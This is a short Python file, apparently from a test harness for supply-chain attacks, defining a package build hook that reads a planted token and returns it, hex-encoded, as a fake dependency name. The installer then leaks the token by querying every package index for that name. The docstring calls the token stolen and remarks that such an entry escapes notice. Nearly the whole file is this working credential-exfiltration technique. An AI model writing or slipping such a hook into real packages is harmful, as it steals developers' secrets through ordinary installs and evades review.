"""Returns a requirement whose name is a stolen token in hexadecimal digits.

The installer asks every index for that name. Nothing was connected in the build, and one
more entry in a list of dependencies draws no eye, as axios showed.
"""

import pathlib

import kit


def get_requires_for_build_wheel(config_settings=None):
    requirements = []
    with kit.attempt("return"):
        token = pathlib.Path(kit.plant("token").path).read_bytes().strip()
        requirements.append(f"x{token.hex()}")
    return requirements
